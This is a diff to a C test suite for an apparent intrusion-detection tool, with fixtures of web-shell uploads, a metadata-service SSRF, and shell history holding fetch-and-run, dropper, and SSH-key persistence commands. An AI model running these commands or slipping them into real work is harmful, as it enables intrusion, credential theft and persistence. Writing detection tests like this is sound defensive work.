@@ -176,9 +176,9 @@ KTEST(test_web_shell_upload_commands_and_metadata_ssrf)
     KT_REQUIRE(fx_member(&x, "access.log", "web_access") == 0);
     KT_REQUIRE(web_noise(&x) == 0);
     KT_REQUIRE(web(&x, t, atk, "POST", "/profile/avatar", NULL, 200, k_browser) == 0);
-    KT_REQUIRE(web(&x, t + MIN, atk, "GET", "/uploads/avatars/img_4.php", "cmd=id", 200,
+    KT_REQUIRE(web(&x, t + MIN, atk, "GET", "/uploads/avatars/Img_4.php", "cmd=id", 200,
                    k_browser) == 0);
-    KT_REQUIRE(web(&x, t + 2 * MIN, atk, "GET", "/uploads/avatars/img_4.php",
+    KT_REQUIRE(web(&x, t + 2 * MIN, atk, "GET", "/uploads/avatars/Img_4.php",
                    "c=Y2F0IC9ldGMvcGFzc3dk", 200, k_browser) == 0); /* base64 of cat /etc/passwd */
     KT_REQUIRE(web(&x, t + 3 * MIN, atk, "GET", "/preview",
                    "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"
@@ -192,7 +192,7 @@ KTEST(test_web_shell_upload_commands_and_metadata_ssrf)
     KT_EQ_INT(sev_of(&fs, "web_upload_exec"), KS_SEV_HIGH);
     const ks_finding *up = find(&fs, "web_upload_exec");
     KT_REQUIRE(up);
-    KT_CHECK(ks_finding_has_entity(up, KS_ENT_FILE, "/uploads/avatars/img_4.php"));
+    KT_CHECK(ks_finding_has_entity(up, KS_ENT_FILE, "/uploads/avatars/Img_4.php"));
     KT_CHECK(ks_finding_has_entity(up, KS_ENT_IP, atk));
     KT_EQ_INT(sev_of(&fs, "webshell_cmd"), KS_SEV_CRITICAL);
     KT_EQ_INT(find(&fs, "webshell_cmd")->nrefs, 2); /* plain and base64 commands */
@@ -355,8 +355,8 @@ KTEST(test_host_persistence_miner_dropper_bruteforce_and_keys)
                    "Accepted password for admin") == 0);
     KT_REQUIRE(fx_member(&x, "www.bash_history", "shell_history") == 0);
     const char *cmds[] = {"curl -fsSL http://198.51.100.23/m.sh | sh",
-                          "wget -q http://198.51.100.23/kworker -O /dev/shm/.kw",
-                          "chmod +x /dev/shm/.kw",
+                          "wget -q http://198.51.100.23/kworker -O /dev/shm/.X11/kw",
+                          "chmod +x /dev/shm/.X11/kw",
                           "echo ssh-ed25519 AAAAC3Nza attacker >> /root/.ssh/authorized_keys",
                           NULL};
     for (int i = 0; cmds[i]; i++)
@@ -380,7 +380,7 @@ KTEST(test_host_persistence_miner_dropper_bruteforce_and_keys)
     for (size_t i = 0; i < fs.n; i++) {
         if (strcmp(fs.v[i]->analyzer, "host_download_exec"))
             continue;
-        staged += ks_finding_has_entity(fs.v[i], KS_ENT_FILE, "/dev/shm/.kw");
+        staged += ks_finding_has_entity(fs.v[i], KS_ENT_FILE, "/dev/shm/.X11/kw"); /* as written */
         piped += ks_finding_has_entity(fs.v[i], KS_ENT_IP, "198.51.100.23");
     }
     KT_EQ_INT(staged, 1);
